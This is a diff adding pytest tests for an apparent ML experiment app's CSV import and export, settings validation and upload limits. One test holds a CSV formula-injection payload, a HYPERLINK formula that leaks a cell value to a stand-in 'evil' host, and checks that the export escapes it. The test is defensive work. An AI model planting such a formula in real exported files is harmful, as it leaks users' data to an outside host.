@@ -150,3 +150,115 @@ def test_saved_settings_in_range_come_back_without_a_word(saved):
     runs, _ = saved
     settings, problems = AppSettings.from_runs(opened(runs).runs, max_epochs=2000, max_samples=5000)
     assert problems == [] and settings.lrs == (0.3, 0.03) and settings.epochs == 3
+
+
+# ----- runs.csv export: headers are escaped like cells -----
+def test_a_formula_in_an_extra_column_header_is_escaped_on_export_and_read_back_as_written(saved):
+    runs, _ = saved
+    formula = '=HYPERLINK("http://evil/?leak="&A2,"click")'
+    results = opened(runs.assign(**{formula: "x"}))
+    header = results.runs_csv().splitlines()[0]
+    assert "'=HYPERLINK" in header and ',"=HYPERLINK' not in header
+    assert formula in opened(pd.read_csv(io.StringIO(results.runs_csv()))).runs.columns  # the apostrophe goes again
+
+
+# ----- a layers cell that is not a list -----
+@pytest.mark.parametrize("column", ["layers", "architecture"])
+def test_a_layers_cell_that_is_not_a_list_is_refused_with_its_row_and_column(saved, column):
+    runs, _ = saved
+    runs = runs.astype({column: object})
+    runs.loc[1, column] = "<b>x</b>"
+    with pytest.raises(ValueError, match=rf"column '{column}' must hold layer widths written like \[2, 8, 2\]; "
+                                         r"row 3 has '<b>x</b>'"):
+        opened(runs)
+
+
+def test_layers_written_with_semicolons_are_read_as_the_list_they_are(saved):
+    """A spreadsheet saved with semicolons wrote [2; 8; 2]: Compare and Hyperparameters draw it."""
+    runs, history = saved
+    runs = runs.assign(layers=runs["layers"].str.replace(",", ";"),
+                       architecture=runs["architecture"].str.replace(",", ";"))
+    results = opened(runs, history)
+    assert list(dict.fromkeys(results.runs["layers"])) == ["[2, 8, 2]", "[2, 4, 4, 2]"]
+    figures.learning_curves_figure(results)
+    figures.parallel_coordinates_figure(results)
+    figures.design_map_figure(results)
+
+
+# ----- saved values no run can have are refused -----
+@pytest.mark.parametrize("column, value, message", [
+    ("test_fraction", 5, r"column 'test_fraction' must lie in \[0.05, 0.9\] for xor; row 2 has 5"),
+    ("n_samples", 2, r"column 'n_samples' must lie in \[8, 100000\] for xor; row 2 has 2"),
+    ("n_samples", 1e9, r"column 'n_samples' must lie in \[8, 100000\] for xor; row 2 has 1e\+09"),
+    ("noise", 1e9, r"column 'noise' must lie in \[0, 10\] for xor; row 2 has 1e\+09"),
+    ("noise", -1, r"column 'noise' must lie in \[0, 10\] for xor; row 2 has -1"),
+    ("lr", 1e-300, r"column 'lr' must lie in \[1e-12, inf\]; row 2 has 1e-300"),
+    ("batch_size", "1e30", r"column 'batch_size' must lie in \[1, 100000\] \(or be 'full'\); row 2 has 1e\+30"),
+    ("epochs", 1e30, r"column 'epochs' must lie in \[1, 100000\]; row 2 has 1e\+30"),
+    ("epochs", 1e6, r"column 'epochs' must lie in \[1, 100000\]; row 2 has 1e\+06"),
+])
+def test_saved_values_no_run_can_have_are_refused_naming_the_column_and_the_range(saved, column, value, message):
+    runs, _ = saved
+    runs = runs.astype({column: object})
+    runs.loc[0, column] = value
+    with pytest.raises(ValueError, match=message) as error:
+        opened(runs)
+    assert "9.22337e+18" not in str(error.value)
+
+
+# ----- NaN accuracy is not "best" -----
+def test_no_configuration_is_starred_best_when_every_accuracy_is_missing(saved):
+    runs, _ = saved
+    table = figures.accuracy_table(opened(runs.assign(test_acc=np.nan)))
+    assert not (table["best"] == "★").any()
+
+
+# ----- own-data messages -----
+def own_csv(label, n=40, trailer=""):
+    rng = np.random.default_rng(0)
+    rows = "\n".join(f"{a:.3f},{b:.3f},{label(i)}{trailer}" for i, (a, b) in enumerate(rng.normal(size=(n, 2))))
+    return ("x,y,label\n" + rows + "\n").encode()
+
+
+def test_labels_written_as_1_and_1_point_0_are_one_class_and_the_message_says_why():
+    with pytest.raises(ValueError, match=r"the label column 'label' holds one class only: 1 and 1.0 are the same "
+                                         r"number; a classifier needs at least 2 classes"):
+        dataset_from_csv(own_csv(lambda i: "1.0" if i % 2 else "1"), "label")
+
+
+def test_numeric_labels_are_ordered_as_numbers():
+    data = dataset_from_csv(own_csv(lambda i: ["2", "10", "1.0"][i % 3]), "label")
+    assert data.class_names == ("1", "2", "10")
+
+
+def test_labels_na_and_eu_are_two_classes_not_empty_cells():
+    data = dataset_from_csv(own_csv(lambda i: "NA" if i % 2 else "EU"), "label")
+    assert data.class_names == ("EU", "NA")
+
+
+@pytest.mark.parametrize("content, message", [
+    (own_csv(lambda i: "ab"[i % 2], trailer=","), r"line 2 has 4 values but the header has 3 columns \(every row "
+                                                  r"ends with an extra ','; remove it\)"),
+    (own_csv(lambda i: ["Paris, France", "Rome, Italy"][i % 2]),
+     r"line 2 has 4 values but the header has 3 columns \(a value holding ',' must be in double quotes, like "
+     r"\"Paris, France\"\)"),
+    (b"x,y,label\n1,2,a\n3,4\n", r"line 3 has 2 values but the header has 3 columns"),
+])
+def test_ragged_rows_are_reported_as_ragged_rows(content, message):
+    with pytest.raises(ValueError, match=message):
+        dataset_from_csv(content, "label")
+
+
+def test_quoted_separators_and_blank_lines_are_not_ragged():
+    frame = read_csv(b'x,y,label\n1,2,"Paris, France"\n\n3,4,"Rome, Italy"\n')
+    assert frame["label"].tolist() == ["Paris, France", "Rome, Italy"]
+
+
+# ----- a very wide upload is refused before pandas reads it -----
+def test_a_file_of_100000_columns_is_refused_from_its_first_line(monkeypatch):
+    """It used to be parsed on every rerun (1.5 s) and offer 100,000 label columns; now its header is counted."""
+    header = ",".join(f"c{i}" for i in range(100_000))
+    content = (header + "\n" + ",".join("0" for _ in range(100_000)) + "\n").encode()
+    monkeypatch.setattr("experiments.tables.read_csv", lambda *args, **kwargs: pytest.fail("the file was parsed"))
+    with pytest.raises(ValueError, match=r"the file has 100000 columns; at most 257 \(256 features and a label\)"):
+        csv_columns(content)
